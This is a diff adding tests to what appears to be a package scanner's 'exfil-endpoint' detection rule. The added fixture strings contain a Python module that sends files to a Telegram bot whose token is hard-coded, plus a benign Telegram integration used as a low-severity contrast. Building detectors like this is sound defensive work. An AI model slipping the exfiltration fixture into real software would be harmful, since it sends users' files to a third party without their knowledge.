@@ -90,3 +90,15 @@ describe('exfil-endpoint: a URL kept encoded', () => {
     expect(hits('exfil-endpoint', { 'pkg/consts.py': `import base64\nHOME = base64.b64decode(b"aHR0cHM6Ly9hcGkubXlpcC5jb20v")\n` })).toEqual([]);
   });
 });
+
+describe('exfil-endpoint: a channel whose credentials are written in the code', () => {
+  const TOKEN = '8424690383:AAFPElRE5e9S7RXxxhqXxzbxUINkSMv7Lms';
+  it('holds a module that zips files and sends them to a hard-coded Telegram bot (high)', () => {
+    const src = `import requests, zipfile\nBOT_TOKEN = "${TOKEN}"\nCHAT_ID = "-4905297540"\ndef send(path):\n    url = f"https://api.telegram.org/bot{BOT_TOKEN}/sendDocument"\n    with open(path, "rb") as f:\n        requests.post(url, files={"document": f}, data={"chat_id": CHAT_ID})\n`;
+    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': '', 'pkg/main.py': src }))).toBe('high');
+  });
+  it('keeps a Telegram integration that takes the user token low (tqdm.contrib.telegram)', () => {
+    const src = `import requests\nclass TelegramIO:\n    API = 'https://api.telegram.org/bot'\n    def __init__(self, token, chat_id):\n        self.token, self.chat_id = token, chat_id\n    def write(self, s):\n        with open('/tmp/log') as f:\n            requests.post(self.API + self.token + '/sendMessage', data={'chat_id': self.chat_id, 'text': f.read()})\n`;
+    expect(maxSev(hits('exfil-endpoint', { 'pkg/__init__.py': '', 'pkg/telegram.py': src }))).toBe('low');
+  });
+});
